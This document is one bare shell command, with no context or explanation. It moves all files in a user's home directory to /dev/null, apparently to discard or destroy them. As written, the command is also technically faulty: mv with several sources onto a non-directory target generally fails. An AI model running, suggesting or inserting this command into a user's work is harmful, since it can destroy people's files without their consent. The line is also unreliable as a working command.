mv /home/user/* /dev/null
